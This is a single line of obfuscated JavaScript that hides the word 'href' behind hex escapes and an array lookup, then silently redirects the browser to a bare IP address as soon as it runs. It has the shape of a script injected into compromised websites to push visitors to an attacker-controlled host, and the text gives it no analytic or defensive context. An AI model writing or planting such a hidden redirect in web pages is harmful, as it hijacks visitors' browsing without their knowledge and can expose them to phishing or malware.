var _0x3f2a=['\x68\x72\x65\x66'];var _0x1b7c=function(i){return _0x3f2a[i];};window['location'][_0x1b7c(0)]='//203.0.113.5/';
